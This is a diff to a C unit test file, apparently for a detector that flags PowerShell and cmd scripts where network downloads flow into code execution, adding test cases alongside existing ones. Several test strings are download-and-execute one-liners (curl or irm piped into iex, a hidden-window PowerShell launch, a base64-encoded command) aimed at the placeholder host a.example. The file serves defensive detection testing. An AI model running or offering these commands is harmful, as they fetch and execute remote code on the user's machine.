@@ -175,6 +175,8 @@ static void code_in_commands(void **state)
 			fail_msg("%s: \"%.*s\"", rows[i].command, STR_ARG(s));
 	}
 	arena_release(&a);
+	says("curl.exe -s https://a.example/x | iex", FACT_FLOW, "net>code", NULL);
+	says("$x = & cmd /c curl -s https://a.example/x; iex $x", FACT_FLOW, "net>code", NULL);
 	says("Start-Process powershell -ArgumentList '-w hidden -c \"iex (irm https://a.example/x)\"'", FACT_FLOW, "net>code", NULL);
 	says("cmd /c powershell -enc aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AeAApAA==", FACT_FLOW, "net>code", NULL);
 	(void)state;
@@ -184,6 +186,7 @@ static void ordinary(void **state)
 {
 	says_no_flow("param([string]$Path)\nfunction Get-Thing { param($x) Get-ChildItem $x | Where-Object { $_.Length -gt 1 } | Sort-Object Name }\nGet-Thing -x $Path | Out-File list.txt");
 	says_no_flow("$v = Invoke-RestMethod -Uri 'https://a.example/version.json'; Write-Host \"new: $($v.version)\"");
+	says_no_flow("$x = curl.exe -s https://a.example/x\nWrite-Host $x\n$v = git.exe describe\niex \"Set-Item v $v\"");
 	says_no_flow("$toolsDir = \"$(Split-Path -parent $MyInvocation.MyCommand.Definition)\"\nInstall-ChocolateyPackage 'x' 'msi' '/quiet' 'https://a.example/x.msi' -Checksum $c");
 	says_no_flow("$file = Get-DownloadFile $name; Start-Process -Wait (Join-Path $file 'setup.exe') \"/features $opts /q\"");
 	says_no_flow("@{ RootModule = 'a.psm1'; ModuleVersion = '1.0'; FunctionsToExport = @('Get-A', 'Set-A') }");
